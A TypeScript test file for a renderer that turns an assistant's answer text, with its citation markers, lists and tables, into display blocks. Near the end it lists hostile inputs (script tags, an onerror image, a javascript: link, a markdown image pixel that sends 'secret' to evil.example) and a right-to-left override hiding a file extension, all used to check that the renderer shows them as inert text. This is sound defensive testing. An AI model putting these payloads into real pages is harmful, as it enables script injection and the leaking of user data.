import assert from "node:assert/strict";
import test from "node:test";
import type { Claim } from "../api/types.ts";
import { type Block, type Inline, type Item, readAnswer } from "./answerText.ts";

const known = new Set([1, 2, 3]);

function lineOf(block: Block | undefined): Inline[] {
  return block?.kind === "paragraph" ? block.children : [];
}

/** The characters that a reader sees, markers as ‹1›. */
function seen(blocks: Block[]): string {
  const inline = (each: Inline): string => {
    if (each.kind === "marks") return each.marks.map(({ number }) => `‹${number}›`).join("");
    if (each.kind === "strong") return each.children.map(inline).join("");
    return each.kind === "break" ? "\n" : each.text;
  };
  const item = ({ number, sign, blocks }: Item): string =>
    `${sign === null ? "" : `${sign} `}${number === null ? "" : `${number}. `}${seen(blocks)}`;
  const block = (each: Block): string => {
    if (each.kind === "list") return each.items.map(item).join("\n");
    if (each.kind === "table")
      return [each.head, ...each.rows].map((row) => row.map((cell) => cell.map(inline).join("")).join("|")).join("\n");
    if (each.kind === "rule") return "";
    return each.kind === "code" ? each.text : each.children.map(inline).join("");
  };
  return blocks.map(block).join("\n");
}

test("citations are numbered by their first appearance", () => {
  const { blocks, order } = readAnswer("One. [3] Two. [1] Three. [3]", { known });
  assert.deepEqual(order, [3, 1]);
  assert.equal(seen(blocks), "One. ‹1› Two. ‹2› Three. ‹1›");
});

test("neighbouring markers are one group, each source once", () => {
  const line = lineOf(readAnswer("Both say so. [2] [1][2]", { known }).blocks[0]);
  assert.deepEqual(line.at(-1), {
    kind: "marks",
    marks: [
      { n: 2, number: 1, claim: null },
      { n: 1, number: 2, claim: null },
    ],
  });
});

test("a marker that no citation belongs to stays text", () => {
  assert.equal(seen(readAnswer("As of [7] and [1][9]. [2024]", { known }).blocks), "As of [7] and ‹1›[9]. [2024]");
});

test("half a marker is hidden while the answer arrives, and only then", () => {
  const whole = "Twice a year. [12] Then more. [1]";
  for (let length = 0; length <= whole.length; length++) {
    const text = seen(readAnswer(whole.slice(0, length), { known: new Set([1, 12]), arriving: true }).blocks);
    assert.doesNotMatch(text, /\[/);
  }
  assert.equal(seen(readAnswer("See [", { known }).blocks), "See [");
  assert.equal(seen(readAnswer("See [a", { known, arriving: true }).blocks), "See [a");
});

test("a marker knows the claim that it stands behind", () => {
  const claim = (text: string, verdict: Claim["verdict"]): Claim => ({ text, verdict, citations: [1], derived: "" });
  const claims = [claim("It opens at nine.", "confirmed"), claim("It closes **early**.", "unconfirmed")];
  const line = lineOf(
    readAnswer("It opens at nine. [1] It closes **early**. (unconfirmed) [1]", { known, claims }).blocks[0],
  );
  const verdicts = line.flatMap((each) => (each.kind === "marks" ? each.marks.map(({ claim }) => claim?.verdict) : []));
  assert.deepEqual(verdicts, ["confirmed", "unconfirmed"]);
});

test("lists, tables, bold and code are read", () => {
  const { blocks } = readAnswer(
    "Steps:\n- **First** `a` [1]\n- Second\n\n| A | B |\n|---|---|\n| 1 | 2 [2] |\n\n3. third",
    { known },
  );
  assert.deepEqual(
    blocks.map(({ kind }) => kind),
    ["paragraph", "list", "table", "list"],
  );
  assert.equal(seen(blocks), "Steps:\nFirst a ‹1›\nSecond\nA|B\n1|2 ‹2›\n3. third");
});

test("the numbers of a list are those of the text, whatever order they are in", () => {
  const text = "5. Heating\n7. Ending the lease [1]\n2. Pets\n\n2. Gardens";
  const { blocks } = readAnswer(text, { known });
  assert.deepEqual(
    blocks.map((each) => each.kind === "list" && each.items.map(({ number }) => number)),
    [[5, 7, 2, 2]],
  );
});

test("items with a document's own signs are a list, within a numbered item, too, and what follows is none", () => {
  const claim: Claim = { text: "• Keys [of both doors]", verdict: "unconfirmed", citations: [1], derived: "" };
  const bring = "Bring: [1]\n• Keys [of both doors] [1]\n• **Lamp**\nThen go. 5 • 6\n•glued";
  const { blocks } = readAnswer(`${bring}\n\n1. Close:\n▪ Gate\n▪ Door\n2. Leave`, { known, claims: [claim] });
  assert.equal(
    seen(blocks),
    "Bring: ‹1›\nKeys [of both doors] ‹1›\nLamp\nThen go. 5 • 6\n•glued\n1. Close:\nGate\nDoor\n2. Leave",
  );
  const [, list, , numbered] = blocks;
  assert.ok(list?.kind === "list" && !list.ordered && list.items.length === 2);
  const marks = lineOf(list.items[0]?.blocks[0]).find((each) => each.kind === "marks");
  assert.equal(marks?.kind === "marks" && marks.marks[0]?.claim?.verdict, "unconfirmed");
  assert.ok(numbered?.kind === "list" && numbered.items[0]?.blocks[1]?.kind === "list");
});

for (const list of [
  "1 Open the lid. [1]\n2 Pour the water. [1]\n3 Close it. [1]",
  "a) a rope\nb) a lamp [1]",
  "(1) Heat it [1]\n(2) Cool it [1]",
  "i) a name\nii) a date\niii) a stamp\niv) a fee",
  "h) eight\ni) nine\nj) ten",
  "c. third\nd. fourth",
])
  test(`items with signs of their own are a list, and the signs are shown: ${JSON.stringify(list)}`, () => {
    const text = `Do this:\n${list}\nThen wait.`;
    const { blocks } = readAnswer(text, { known });
    assert.deepEqual(
      blocks.map((each) => (each.kind === "list" ? each.items.length : each.kind)),
      ["paragraph", list.split("\n").length, "paragraph"],
    );
    assert.equal(seen(blocks), text.replaceAll(" [1]", "‹1›").replaceAll("‹1›", " ‹1›"));
  });

test("a marker in an item knows its claim, whose text begins with the sign", () => {
  const claim = (text: string, verdict: Claim["verdict"]): Claim => ({ text, verdict, citations: [1], derived: "" });
  const claims = [claim("1 Open the lid.", "confirmed"), claim("2 Close the lid.", "unconfirmed")];
  const [list] = readAnswer("1 Open the lid. [1]\n2 Close the lid. [1]", { known, claims }).blocks;
  assert.ok(list?.kind === "list");
  const marks = lineOf(list.items[1]?.blocks[0]).find((each) => each.kind === "marks");
  assert.equal(marks?.kind === "marks" && marks.marks[0]?.claim?.verdict, "unconfirmed");
});

test("lines that do not count up are no list", () => {
  for (const text of ["1 Hall seats 40\n12 Halls are new", "a) one\nc) three", "2 Bells\n1 Drum", "5 mm\n6 mm"])
    assert.ok(
      readAnswer(text, { known }).blocks.every(({ kind }) => kind === "paragraph"),
      text,
    );
});

const HOSTILE = [
  '<img src=x onerror="alert(1)">',
  "<script>alert(1)</script>",
  "![pixel](https://evil.example/p.png?q=secret)",
  "[click](javascript:alert(1))",
  "[1](https://evil.example)",
  "[text][1]",
  "<https://evil.example>",
  "https://evil.example/x",
  "[1]: https://evil.example",
  "    <b>indented</b>",
  "> 5 mm",
  "+ 5 °C",
  "3) Bring the keys\n5) Lock the gate",
  "07. Open the valve",
  "5*3*2 = 30 and ~5 to ~10, snake_case_name, a\\*b, &lt;b&gt;",
  "Title\n=====",
  "<!-- hidden -->",
];

for (const text of HOSTILE) {
  test(`every character is shown as it is: ${JSON.stringify(text)}`, () => {
    const { blocks } = readAnswer(text, { known: new Set() });
    assert.equal(seen(blocks).replace(/\s+/g, " ").trim(), text.replace(/\s+/g, " ").trim());
    assert.ok(blocks.every(({ kind }) => kind === "paragraph"));
  });
}

test("characters that turn or hide text are left out", () => {
  assert.equal(seen(readAnswer("a\u202egpj.exe\u2060 [\u20661] [1]", { known }).blocks), "agpj.exe ‹1›");
});
